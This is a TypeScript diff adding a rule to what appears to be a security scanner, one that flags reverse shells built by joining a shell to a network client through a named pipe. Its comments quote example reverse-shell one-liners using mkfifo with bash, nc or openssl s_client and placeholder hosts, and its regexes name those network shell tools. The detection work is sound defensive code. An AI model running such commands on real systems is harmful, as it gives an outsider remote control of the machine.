@@ -1,6 +1,6 @@
 import type { AnyRule, PatternRule, RawHit, Segment } from '../rule.types.js';
 import { sinkWithSources } from '../analyzers/code-cooccurrence.js';
-import { gated, mayMatch } from '../analyzers/literal-gates.js';
+import { gated, mayMatch, testSegment } from '../analyzers/literal-gates.js';
 import { evidenceAround, fileLineOf, lineIndexOf, lineStarts } from '../analyzers/segment-lines.js';
 import { patternRuleMaker } from './pattern-rule.js';
 
@@ -322,6 +322,97 @@ const DNS_TXT_TO_SHELL = gated(
 /** PowerShell: the lookup's strings piped into `iex`. */
 const PS_PIPE_IEX = gated(/\|\s{0,4}(?:iex|Invoke-Expression)\b/gi);
 
+/**
+ * A shell joined to a network client through a named pipe (`mkfifo f; bash -i <f 2>&1 | openssl
+ * s_client -connect h:443 >f`, `nc h p <f | sh >f`): one pipeline reads the fifo and writes it back,
+ * the script makes that fifo, starts an interactive or stdin-fed shell and runs a network client
+ * (openssl s_client, ncat, nc, socat, telnet, gnutls-cli). The pieces may sit in functions or
+ * variables (`$SH <"$F" | $NET >"$F"`); the loop through the fifo is what joins them.
+ */
+const FIFO_MADE = gated(/\bmkfifo\b|\bmknod\b[^\n;|&]{1,200}\sp\b/);
+const NET_CLIENT = gated(
+  /\bopenssl\s{1,4}s_client\b|\b(?:ncat|netcat|socat|telnet|gnutls-cli|cryptcat)\b|\bnc\s{1,4}(?:-\w{1,6}\s{1,4}){0,4}["']?[\w.${}:-]{1,253}["']?\s{1,4}["']?(?:\d{1,5}|\$\{?\w{1,40}\}?)\b/,
+);
+const SHELL_ON_STDIN = gated(
+  /\b(?:ba|z|da|k|a)?sh\s{1,4}-i\b|(?:^|[\s;|&(/"'])(?:ba|z|da|k|a)?sh\s{0,4}(?:-\w{1,4}\s{1,4}){0,2}(?:\d?<\s{0,2}["']?[$\w{}./-]|\|)|\|\s{0,4}(?:(?:\/usr)?\/bin\/)?(?:ba|z|da|k|a)?sh\b/m,
+);
+const MKFIFO_ARGS = /\b(?:mkfifo|mknod)\b((?:[^\n;|&]|\\\n){1,400})/g;
+const REDIRECT_IN = /(?:^|[^<\d&])\d?<\s{0,2}(["']?)([^\s"'|;&<>()]{1,200})\1/g;
+const REDIRECT_OUT = /(?:^|[^>&\d])\d?>>?\s{0,2}(["']?)([^\s"'|;&<>()]{1,200})\1/g;
+const CAT_IN = /\bcat\s{1,4}(["']?)([^\s"'|;&<>()-][^\s"'|;&<>()]{0,199})\1/g;
+const MAX_PIPELINE = 4000;
+const JOINS_NEXT = /(?:\\|\|)[ \t\r]*$/;
+const CONTINUATION = /\\[ \t\r]*$/;
+
+function fifoNames(text: string): Set<string> {
+  const names = new Set<string>();
+  MKFIFO_ARGS.lastIndex = 0;
+  for (let m = MKFIFO_ARGS.exec(text); m !== null && names.size < 40; m = MKFIFO_ARGS.exec(text))
+    for (const w of m[1].replace(/\\\n/g, ' ').split(/\s+/))
+      if (w && !w.startsWith('-') && w !== 'p' && !/^\d{3,4}$/.test(w))
+        names.add(w.replace(/^["']|["']$/g, ''));
+  return names;
+}
+
+function targets(part: string, re: RegExp): string[] {
+  re.lastIndex = 0;
+  return Array.from(part.matchAll(re), (m) => m[2]);
+}
+
+/** The first pipeline of a shell segment that reads one of the fifos and writes it back. */
+function fifoLoop(seg: Segment): RawHit | null {
+  const fifos = fifoNames(seg.text);
+  if (fifos.size === 0) return null;
+  const lines = seg.text.split('\n');
+  for (let i = 0; i < lines.length; i++) {
+    const start = i;
+    const parts = [lines[i]];
+    let size = lines[i].length;
+    // Continuation lines (`\` at the end) and a pipe at a line's end join the next line.
+    while (i + 1 < lines.length && JOINS_NEXT.test(lines[i].slice(-40)) && size < MAX_PIPELINE) {
+      parts[parts.length - 1] = parts[parts.length - 1].replace(CONTINUATION, ' ');
+      parts.push(lines[++i]);
+      size += lines[i].length + 1;
+    }
+    const logical = parts.join(' ');
+    if (!logical.includes('|') || logical.length > MAX_PIPELINE) continue;
+    // `a || b` runs b instead of a: not a pipe between them.
+    const stages = logical.replace(/\|\|/g, ' ; ').split('|');
+    if (stages.length < 2) continue;
+    // From the last stage back: the fifos a later stage writes, met by a stage that reads one.
+    const written = new Set<string>();
+    for (let k = stages.length - 1; k >= 0; k--) {
+      if (written.size > 0) {
+        const reads = [...targets(stages[k], REDIRECT_IN), ...targets(stages[k], CAT_IN)];
+        if (reads.some((t) => written.has(t))) {
+          const at = lineStarts(seg.text)[start];
+          return {
+            file: seg.file,
+            line: fileLineOf(seg, start),
+            evidence: evidenceAround(seg.text, at, at + Math.min(lines[start].length, 200)),
+            depth: seg.depth,
+          };
+        }
+      }
+      for (const t of targets(stages[k], REDIRECT_OUT)) if (fifos.has(t)) written.add(t);
+    }
+  }
+  return null;
+}
+
+function fifoShells(segments: Segment[]): RawHit[] {
+  const out: RawHit[] = [];
+  for (const seg of segments) {
+    if (seg.kind !== 'decoded' && (seg.kind !== 'code' || (seg.lang !== 'shell' && seg.lang !== 'other')))
+      continue;
+    if (!testSegment(FIFO_MADE, seg) || !testSegment(NET_CLIENT, seg) || !testSegment(SHELL_ON_STDIN, seg))
+      continue;
+    const hit = fifoLoop(seg);
+    if (hit) out.push(hit);
+  }
+  return out;
+}
+
 export const REVERSE_SHELL_RULES: AnyRule[] = [
   ...PATTERNS,
   {
@@ -404,5 +495,15 @@ export const REVERSE_SHELL_RULES: AnyRule[] = [
       ...sinkWithSources(segments, ['python', 'js', 'go', 'ruby'], [DNS_TXT_LOOKUP], RUN_COMMAND_VARIABLE),
       ...sinkWithSources(segments, ['python', 'js', 'ruby'], [DNS_TXT_LOOKUP], EVAL_VARIABLE),
     ],
+  },
+  {
+    type: 'custom',
+    id: 'SG-RSHELL-010',
+    family: 'reverse-shell',
+    severity: 'CRITICAL',
+    message:
+      'A shell wired to a network client through a named pipe (mkfifo; shell <fifo | openssl s_client / ncat / nc / socat >fifo): a reverse shell, however its pieces are split over functions or variables',
+    remediation: REMEDIATION,
+    check: ({ segments }) => fifoShells(segments),
   },
 ];
